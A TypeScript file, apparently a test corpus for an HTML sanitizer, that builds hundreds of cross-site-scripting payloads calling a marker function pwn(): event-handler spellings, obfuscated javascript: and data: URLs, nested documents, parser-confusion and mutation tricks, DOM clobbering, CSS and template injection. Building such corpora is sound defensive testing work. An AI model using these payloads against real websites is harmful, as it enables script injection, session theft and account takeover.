/**
 * Texts that try to run `pwn()`, made from classes of attacks: markup with handlers in every spelling, addresses that run, documents in
 * documents, parsers that disagree (comments, raw text, foreign namespaces), names that hide methods of the page, style sheets, and the
 * marks of template languages.
 */
const RUN = 'pwn()';

const handlers: readonly (readonly [start: string, handler: string, end: string])[] = [
  ['<img src=x', 'onerror', '>'],
  ['<img srcset="x 1x"', 'onerror', '>'],
  ['<image href=x', 'onerror', '>'],
  ['<svg', 'onload', '></svg>'],
  ['<svg><g', 'onload', '></g></svg>'],
  ['<svg><animate attributeName=x dur=1s', 'onbegin', '></animate></svg>'],
  ['<svg><image href=x', 'onerror', '></image></svg>'],
  ['<body', 'onload', '>'],
  ['<body', 'onpageshow', '>'],
  ['<input autofocus', 'onfocus', '>'],
  ['<select autofocus', 'onfocus', '></select>'],
  ['<textarea autofocus', 'onfocus', '></textarea>'],
  ['<p tabindex=1 autofocus', 'onfocus', '></p>'],
  ['<video><source', 'onerror', '></video>'],
  ['<video src=x', 'onerror', '></video>'],
  ['<audio src=x', 'onerror', '></audio>'],
  ['<details open', 'ontoggle', '>x</details>'],
  ['<div popover', 'onbeforetoggle', '>x</div>'],
  ['<marquee', 'onstart', '>x</marquee>'],
  ['<object data=x', 'onerror', '></object>'],
  ['<embed src=x', 'onload', '>'],
  ['<link rel=stylesheet href=x', 'onerror', '>'],
  ['<script src=x', 'onerror', '></script>'],
  ['<style', 'onload', '>a{}</style>'],
  ['<iframe', 'onload', '></iframe>'],
  ['<a href=x', 'onclick', '>x</a>'],
  ['<b', 'onmouseover', '>x</b>'],
  ['<div style="animation: fx-appear 1ms"', 'onanimationend', '>x</div>'],
  ['<div style="transition: all 1ms"', 'ontransitionend', '>x</div>'],
  ['<fx-label', 'onclick', '>x</fx-label>'],
  ['<math', 'onclick', '>x</math>'],
];

const spellings: readonly ((start: string, handler: string, end: string) => string)[] = [
  (start, handler, end) => `${start} ${handler}="${RUN}"${end}`,
  (start, handler, end) => `${start}/${handler}=${RUN}//${end}`,
  (start, handler, end) => `${start}\n${handler.toUpperCase()}\t=\f'${RUN}'${end}`,
];

const schemes: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u001fjavascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `javascript\t:${RUN}`,
  `javascript:\n${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `javascript:/**/${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6a;&#x61;vascript:${RUN}`,
  `jav&#x09;ascript:${RUN}`,
  `%6Aavascript:${RUN}`,
  `http:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `mocha:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;base64,${btoa(`<script>parent.${RUN}</script>`)}`,
  `DATA:text/html;charset=utf-8,<img src=x onerror=parent.${RUN}>`,
  `data:text/xml,<x xmlns="http://www.w3.org/1999/xhtml"><script>parent.${RUN}</script></x>`,
  `data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>parent.${RUN}</script></html>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${RUN};${RUN}"><script>parent.${RUN};${RUN}</script></svg>`,
  `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${RUN};${RUN}"/>`)}`,
  `data:text/javascript,${RUN}`,
  `data:,${RUN}`,
  `data:text/css,*{background:url(javascript:${RUN})}`,
  `blob:null/${RUN}`,
  `filesystem:http://x/${RUN}`,
  `jar:http://x!/${RUN}`,
  `about:blank#${RUN}`,
  `ms-its:mhtml:${RUN}`,
  `intent://${RUN}#Intent;scheme=javascript;end`,
  `//user:${RUN}@evil.invalid`,
  `appres://javascript:${RUN}`,
  `appres://appres://javascript:${RUN}`,
];

/** Elements that lead or load, each with an address in it. */
const carriers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
];

const documents: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="data:text/html,<script>parent.${RUN}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//"><a href=x>x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<input type=image src=x formaction="javascript:${RUN}">`,
  `<svg><set attributeName=href to="javascript:${RUN}" /><a><text>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x" /></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<div><template shadowrootmode=open><script>${RUN}</script></template></div>`,
  `<fx-html-viewer html-text="<img src=x onerror=${RUN}>"></fx-html-viewer>`,
  `<fx-app src="javascript:${RUN}"></fx-app>`,
  `<button is=x-y popovertarget=p>x</button><div id=p popover onbeforetoggle=${RUN}>x</div>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<portal src="javascript:${RUN}"></portal>`,
  `<frameset onload=${RUN}><frame src="javascript:parent.${RUN}"></frameset>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<xml id=x><a><b>&lt;img src=x onerror=${RUN}&gt;</b></a></xml><div datasrc=#x datafld=b dataformatas=html></div>`,
];

const bait = `<img src=x onerror=${RUN}>`;
const raw = ['noscript', 'textarea', 'title', 'xmp', 'noembed', 'noframes', 'style', 'iframe', 'plaintext', 'template', 'script'];
const foreign = ['math', 'svg'];
const integration = ['mtext', 'mi', 'annotation-xml encoding="text/html"', 'foreignObject', 'desc', 'title'];

/** What one parser takes for text and the next one for markup. */
const confusions: readonly string[] = [
  ...raw.map((tag) => `<${tag}><p title="</${tag}>${bait}"></p></${tag}>`),
  ...raw.map((tag) => `<svg></p><${tag}><a id="</${tag}>${bait}">`),
  ...raw.map(
    (tag) =>
      `<math><mtext><table><mglyph><${tag}><!--</${tag}><img title="--&gt;${bait.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}">`,
  ),
  ...foreign.flatMap((outer) =>
    integration.map((inner) => `<${outer}><${inner}><style><!--</style>${bait}--></style></${outer}>`),
  ),
  ...foreign.flatMap((outer) =>
    integration.map((inner) => `<form><${outer}><${inner}></form><form><mglyph><style></${outer}>${bait}`),
  ),
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>-->`,
  `<!-- --!>${bait}-->`,
  `<![CDATA[${bait}]]>`,
  `<svg><![CDATA[</svg>${bait}]]></svg>`,
  `<?xml version="1.0"?>${bait}`,
  `<?${bait}?>`,
  `</p${bait}`,
  `<a title="${bait}`,
  `<<img src=x onerror=${RUN}>`,
  `<img src="x\u0000" onerror=${RUN}>`,
  `<img\u0000src=x onerror=${RUN}>`,
  `<img src=x one\u0000rror=${RUN}>`,
  `\u0000${bait}`,
  `\ufeff${bait}`,
  `${'<b>'.repeat(600)}${bait}`,
  `<table><tr><td>${'<svg><desc>'.repeat(60)}${bait}`,
];

const clobbering: readonly string[] = [
  ...[
    'attributes',
    'childNodes',
    'firstChild',
    'parentNode',
    'nodeName',
    'removeChild',
    'setAttribute',
    'innerHTML',
    'textContent',
  ].map((name) => `<form onclick=${RUN}><input name=${name}><input name=${name}>${bait}</form>`),
  ...['body', 'documentElement', 'implementation', 'getElementById', 'customElements', 'trustedTypes', 'fxloom'].map(
    (name) => `<a id=${name} href="javascript:${RUN}"></a><img name=${name}><form id=${name} name=${name}></form>`,
  ),
];

const styles: readonly string[] = [
  `red;background:url(javascript:${RUN})`,
  `url("javascript:${RUN}")`,
  `expression(${RUN})`,
  `red}</style><script>${RUN}</script>`,
  `red;-moz-binding:url(data:text/xml,${RUN})`,
  `</style>${bait}`,
  `<p style="background:url('javascript:${RUN}')">x</p>`,
  `<p style="x:expression(${RUN})">x</p>`,
  `<p style="position:fixed;inset:0;width:100vw;height:100vh;z-index:99999">x</p>`,
  `<p style="--x:</style>${bait}">x</p>`,
];

const templates: readonly string[] = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `*/${RUN}/*`,
  `\\";${RUN};//`,
  `</script><script>${RUN}</script>`,
  `">${bait}`,
  `'>${bait}`,
  `-->${bait}`,
  `]]>${bait}`,
  `<!--?lit$1$-->${bait}`,
  `<?lit$1$>${bait}`,
  `{{lit-1}}${bait}`,
  `{"__html":"${bait.replaceAll('"', '\\"')}"}`,
  `{"_$litType$":1,"strings":["${bait}"],"values":[]}`,
  `={Confirm("${RUN}")}`,
  '__proto__',
  'constructor',
  'toString',
];

export const hostileTexts: readonly string[] = [
  ...handlers.flatMap((parts) => spellings.map((spell) => spell(...parts))),
  ...schemes,
  ...schemes.slice(0, 24).flatMap((address) => carriers.map((carry) => carry(address))),
  ...documents,
  ...confusions,
  ...clobbering,
  ...styles,
  ...templates,
];
